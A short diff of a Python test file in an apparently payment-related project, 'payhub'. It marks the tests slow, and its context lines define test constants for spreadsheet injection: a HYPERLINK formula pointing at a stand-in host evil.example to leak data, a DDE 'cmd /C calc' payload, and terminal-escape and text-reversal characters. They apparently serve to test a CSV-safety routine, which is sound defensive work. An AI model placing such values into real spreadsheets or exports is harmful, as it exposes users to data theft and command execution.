@@ -30,6 +30,8 @@ from payhub.csvsafe import restore_cell
 from payhub.db.schema import audit_log
 from payhub.runtime import Runtime
 
+pytestmark = pytest.mark.slow  # seeds and streams thousands of audit entries
+
 FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
 REASON = "=cmd|' /C calc'!A0 \x1b[2J \u202eü"
 SEEDED = 1205  # more than a table's page
